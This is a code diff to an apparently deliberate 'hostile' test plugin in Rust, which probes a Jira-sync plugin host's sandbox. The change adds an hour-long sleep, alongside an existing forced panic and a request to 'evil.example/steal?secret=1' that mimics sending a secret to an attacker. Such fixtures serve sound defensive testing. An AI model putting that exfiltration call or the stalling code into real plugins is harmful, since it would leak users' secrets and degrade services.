@@ -11,7 +11,7 @@ mod guest {
     use exports::jira_sync::plugin::webhook::{self, Request, Response};
     use jira_sync::plugin::types::ResolutionStrategy;
     use jira_sync::plugin::{
-        cache, deliveries, group_assignment, group_status, http, installations, log,
+        cache, clock, deliveries, group_assignment, group_status, http, installations, log,
     };
 
     struct Hostile;
@@ -89,6 +89,10 @@ mod guest {
                     }
                 }
                 "panic" => panic!("the hostile guest panics on purpose"),
+                "sleep" => {
+                    clock::sleep(3600);
+                    answer(200, b"slept an hour".to_vec())
+                }
                 "http-foreign" => match get("https://evil.example/steal?secret=1") {
                     Ok(r) => answer(
                         200,
